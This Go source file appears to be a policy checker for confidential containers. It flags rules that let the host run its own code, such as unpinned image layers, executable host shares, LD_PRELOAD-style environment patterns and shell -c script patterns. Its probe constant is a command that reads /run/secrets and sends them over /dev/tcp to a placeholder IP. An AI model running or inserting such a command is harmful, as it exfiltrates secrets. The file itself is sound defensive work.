package initdata

import (
	"fmt"
	"path"
	"regexp"
	"slices"
	"sort"
	"strings"

	"github.com/c8s-dev/c8s/guest/api/policy"
)

// What HostCanRunCode finds in the rules of an enforced [policy]: the
// shapes of rule under which the host runs code of its choosing though
// it may create and exec only what the rules allow.
//
// Refused (each names the rule and the key):
//   - A rule that does not bind its container's file system to the
//     owner's image (policy.Container.BindsImage: no pinned layers, no
//     digest-pinned pull): the host attaches the root, so /bin/sh or the
//     rule's program is the host's. The only shape an owner may accept
//     (HostCodeOptions.AcceptHostRootfs): it trusts the node with those
//     images' files, as runtime.allow_host_rootfs does on the node.
//   - A mount of host content the guest executes (kind "shared": a
//     virtio-fs share, which the guest mounts executable) over the rule's
//     program, an exec's, a directory of the rule's exact PATH, or the
//     system's code (/bin, /lib, /usr/..., the dynamic loader's files):
//     with a pattern destination, one that matches such a path or one of
//     its parents. Host files passed by value (kind "file") are bound
//     noexec and are not counted.
//   - An env pattern (re:) that admits a variable naming code loaded
//     before the program (LD_PRELOAD, LD_AUDIT, LD_LIBRARY_PATH) or a
//     script the shell sources first (BASH_ENV, ENV) with a value of the
//     host's: /etc/hosts is the host's content.
//   - An argv (the rule's args or an exec) whose script is a pattern: a
//     shell (sh, bash, ...) with -c, or an interpreter with -c or -e
//     (python, perl, ruby, node), followed by a re: pattern that admits a
//     command of the host's.
//   - A shell or interpreter reading its commands from stdin the host
//     writes: an exec of one alone (or with -s, -i, -l, -) under
//     exec_stdin, or the rule's own program so under stdin = true.
//
// Not refused, and the owner's to judge (the relying party cannot tell
// from the document alone):
//   - Patterns for the program itself (args[0] = "re:/app/.*"): the host
//     picks among the image's programs, which are the owner's.
//   - A script or data file the program reads from a host share (python
//     /config/app.py with /config shared), a relative script resolved in
//     a working_dir under a share, a PATH pattern pointing at a share.
//   - A "guest" bind of a path another container writes (an emptyDir a
//     container with a host root fills), privileged containers, and
//     programs that run what their input says (a shell script that evals
//     a configMap).
//   - image = "re:.*": the annotation only; with the layers pinned, the
//     files are the owner's whatever the image is called.
//   - A script pattern that admits the host's commands only in forms the
//     check does not try: it tries a probe command alone and after what
//     every match starts with (its literal prefix), as a command of its
//     own (";", "&&", a newline) or a substitution; deciding it for every
//     form would take the intersection of regular languages. A shell or
//     interpreter the list does not name (busybox's applets under another
//     name, python3.11).
//   - A host file (kind "file") at /etc/ld.so.preload or the like: it is
//     read, but the libraries it names must be on an executable mount,
//     the image's or a share's (a share over them is refused above).

// HostCodeOptions are what a relying party's owner accepts.
type HostCodeOptions struct {
	// AcceptHostRootfs does not count the rules that leave their
	// container's root file system to the host (HostRootfsRules): the
	// owner trusts the node with those images' files.
	AcceptHostRootfs bool
}

// HostRootfsRules returns the keys (policy.sandbox,
// policy.containers.NAME) of the rules of an enforced [policy] that do
// not bind their container's file system to the owner's image, so that
// the host supplies the container's root (runtime.allow_host_rootfs, a
// host-built disk) and runs its own binaries under the rule's argv. Nil
// without a [policy] or in audit mode (HostCanRunCode says why then).
func (d *InitData) HostRootfsRules() []string {
	if d.Policy == nil || d.Policy.Audit {
		return nil
	}
	var keys []string
	for _, r := range rules(d.Policy) {
		if !r.c.BindsImage() {
			keys = append(keys, r.key)
		}
	}
	return keys
}

// rule is one rule of a [policy] with its key.
type rule struct {
	key, name string
	c         *policy.Container
}

// rules returns the sandbox's rule, then the containers' by name.
func rules(p *policy.Policy) []rule {
	var out []rule
	if p.Sandbox != nil {
		out = append(out, rule{"policy.sandbox", "sandbox", p.Sandbox})
	}
	names := make([]string, 0, len(p.Containers))
	for n, c := range p.Containers {
		if c != nil {
			names = append(names, n)
		}
	}
	sort.Strings(names)
	for _, n := range names {
		out = append(out, rule{"policy.containers." + quoteKey(n), n, p.Containers[n]})
	}
	return out
}

// quoteKey writes a TOML key as a document would.
func quoteKey(k string) string {
	for _, r := range k {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '_' || r == '-') {
			return fmt.Sprintf("%q", k)
		}
	}
	if k == "" {
		return `""`
	}
	return k
}

// hostRootfsReason says why the rules keys leave their roots to the host.
func hostRootfsReason(keys []string) string {
	names, tables := make([]string, len(keys)), make([]string, len(keys))
	for i, k := range keys {
		names[i] = fmt.Sprintf("%q", strings.TrimPrefix(strings.TrimPrefix(k, "policy.containers."), "policy."))
		tables[i] = "[[" + k + ".layers]]"
	}
	if len(keys) == 1 {
		return fmt.Sprintf("rule %s does not pin its image's layers (%s), so the host supplies its root file system and can run its own binaries under the rule's argv: pin the layers with c8s-measure policy --image … (c8s-measure image IMAGE -o toml --container NAME prints a rule's)", names[0], tables[0])
	}
	return fmt.Sprintf("rules %s do not pin their images' layers (%s), so the host supplies their root file systems and can run its own binaries under the rules' argv: pin the layers with c8s-measure policy --image … (c8s-measure image IMAGE -o toml --container NAME prints a rule's)", strings.Join(names, ", "), strings.Join(tables, ", "))
}

// ruleHostCode returns why rule r, whatever its image binding, lets the
// host run code of its choosing (see the list above), one reason per
// finding.
func ruleHostCode(r rule) []string {
	c := r.c
	var out []string
	argvs := []struct {
		key   string
		argv  []policy.Pattern
		stdin bool
	}{{r.key + ".args", c.Args, c.Stdin}}
	for i, e := range c.Exec {
		argvs = append(argvs, struct {
			key   string
			argv  []policy.Pattern
			stdin bool
		}{fmt.Sprintf("%s.exec[%d]", r.key, i), e, c.ExecStdin})
	}
	for _, a := range argvs {
		if why := hostScript(a.argv); why != "" {
			out = append(out, fmt.Sprintf("%s %s: %s", a.key, patternList(a.argv), why))
		}
		if a.stdin && readsStdin(a.argv) {
			field := "stdin = true"
			if a.key != r.key+".args" {
				field = "exec_stdin = true"
			}
			out = append(out, fmt.Sprintf("%s %s with %s: a shell or interpreter reading its commands from the stdin the host writes runs what the host types", a.key, patternList(a.argv), field))
		}
	}
	for i, e := range c.Env {
		if !e.IsRegex() {
			continue
		}
		for _, v := range loaderVars {
			if admitsHostValue(e, v) {
				out = append(out, fmt.Sprintf("%s.env[%d] %q admits %s=<a path of the host's>: the host names code loaded or a script sourced before the program (/etc/hosts, for one, is the host's content); pin the value exactly", r.key, i, string(e), v))
				break
			}
		}
	}
	code := codePaths(c)
	for i, m := range c.Mounts {
		if m.Kind != policy.KindShared {
			continue
		}
		if p, ok := covers(m.Destination, code); ok {
			out = append(out, fmt.Sprintf("%s.mounts[%d] (kind shared, destination %q) puts the host's files over %s, which the container executes: a virtio-fs share is the host's content, mounted executable", r.key, i, string(m.Destination), p))
		}
	}
	return out
}

// loaderVars are environment variables whose value names code that runs
// before or around the program: the dynamic loader's, and the startup
// script of a non-interactive bash (BASH_ENV) or POSIX sh (ENV).
var loaderVars = []string{"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "BASH_ENV", "ENV"}

// admitsHostValue reports whether env pattern e lets variable v have a
// value of the host's: a path it writes (a host file passed by value, a
// temporary file).
func admitsHostValue(e policy.Pattern, v string) bool {
	for _, val := range []string{"/etc/hosts", "/etc/resolv.conf", "/tmp/x", "x"} {
		if e.Match(v + "=" + val) {
			return true
		}
	}
	return false
}

// shells and interpreters: the flag each runs its next argument as a
// program with.
var scriptFlags = map[string]string{
	"sh": "-c", "bash": "-c", "dash": "-c", "ash": "-c", "zsh": "-c", "ksh": "-c", "mksh": "-c",
	"python": "-c", "python3": "-c", "perl": "-e", "ruby": "-e", "node": "-e",
}

// programDirs are where a program named by its base name is looked for.
var programDirs = []string{"", "/bin/", "/usr/bin/", "/usr/local/bin/", "/sbin/", "/usr/sbin/"}

// interpreter returns the flag with which program pattern p, if it
// matches a shell or an interpreter, runs a program from its next
// argument, and whether it does.
func interpreter(p policy.Pattern) (string, bool) {
	names := make([]string, 0, len(scriptFlags))
	for n := range scriptFlags {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		for _, dir := range programDirs {
			if p.Match(dir + n) {
				return scriptFlags[n], true
			}
		}
	}
	return "", false
}

// hostScriptProbe is a command no owner pins: a pattern that admits it
// lets the host write the script.
const hostScriptProbe = "cat /run/secrets/* >/dev/tcp/192.0.2.1/80"

// hostScript says why argv lets the host write the program a shell or an
// interpreter in it runs, or "".
func hostScript(argv []policy.Pattern) string {
	for i := 0; i+2 < len(argv); i++ {
		flag, ok := interpreter(argv[i])
		if !ok || !argv[i+1].Match(flag) {
			continue
		}
		if script, ok := admitsHostScript(argv[i+2]); ok {
			return fmt.Sprintf("the script of %s %s is the pattern %q, which admits commands of the host's (%q among them); pin the script exactly", string(argv[i]), flag, string(argv[i+2]), script)
		}
	}
	return ""
}

// admitsHostScript returns a script of the host's that pattern p admits:
// the probe alone, or after what every match of p starts with, as a
// command of its own or a substitution ("echo .*" admits "echo x; cat …").
func admitsHostScript(p policy.Pattern) (string, bool) {
	if !p.IsRegex() {
		return "", false
	}
	re, err := regexp.Compile("^(?:" + strings.TrimPrefix(string(p), policy.RegexPrefix) + ")$")
	if err != nil {
		return "", false
	}
	prefix, _ := re.LiteralPrefix()
	for _, s := range []string{hostScriptProbe, prefix + hostScriptProbe, prefix + "x; " + hostScriptProbe, prefix + "x\n" + hostScriptProbe, prefix + "$(" + hostScriptProbe + ")", prefix + "x && " + hostScriptProbe} {
		if re.MatchString(s) {
			return s, true
		}
	}
	return "", false
}

// readsStdin reports whether argv is a shell or an interpreter that reads
// its program from stdin: alone, or with -s, -i, -l or -.
func readsStdin(argv []policy.Pattern) bool {
	if len(argv) == 0 || len(argv) > 2 {
		return false
	}
	if _, ok := interpreter(argv[0]); !ok {
		return false
	}
	if len(argv) == 1 {
		return true
	}
	for _, f := range []string{"-s", "-i", "-l", "-"} {
		if argv[1].Match(f) {
			return true
		}
	}
	return false
}

// systemCode are the paths of the system's programs, libraries and the
// dynamic loader's configuration: host content over one of them runs in
// every process of the container.
var systemCode = []string{
	"/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32",
	"/usr/bin", "/usr/sbin", "/usr/lib", "/usr/lib32", "/usr/lib64", "/usr/libexec",
	"/usr/local/bin", "/usr/local/sbin", "/usr/local/lib",
	"/etc/ld.so.preload", "/etc/ld.so.cache", "/etc/ld.so.conf", "/etc/ld.so.conf.d",
}

// codePaths returns the paths the container executes from: the system's,
// its rule's exact absolute programs (args[0], each exec's) and the
// directories of its exact PATH.
func codePaths(c *policy.Container) []string {
	out := slices.Clone(systemCode)
	programs := [][]policy.Pattern{c.Args}
	programs = append(programs, c.Exec...)
	for _, argv := range programs {
		if len(argv) > 0 && !argv[0].IsRegex() && path.IsAbs(string(argv[0])) {
			out = append(out, path.Clean(string(argv[0])))
		}
	}
	for _, e := range c.Env {
		if v, ok := strings.CutPrefix(string(e), "PATH="); ok && !e.IsRegex() {
			for _, dir := range strings.Split(v, ":") {
				if path.IsAbs(dir) {
					out = append(out, path.Clean(dir))
				}
			}
		}
	}
	return out
}

// covers returns the first of paths that a mount on dest would cover:
// dest is the path or one of its parents (for a pattern, matches one).
func covers(dest policy.Pattern, paths []string) (string, bool) {
	for _, p := range paths {
		for q := p; ; q = path.Dir(q) {
			if dest.Match(q) || !dest.IsRegex() && path.Clean(string(dest)) == q {
				return p, true
			}
			if q == "/" {
				break
			}
		}
	}
	return "", false
}

// patternList writes argv as a document would.
func patternList(argv []policy.Pattern) string {
	s := make([]string, len(argv))
	for i, p := range argv {
		s[i] = fmt.Sprintf("%q", string(p))
	}
	return "[" + strings.Join(s, ", ") + "]"
}
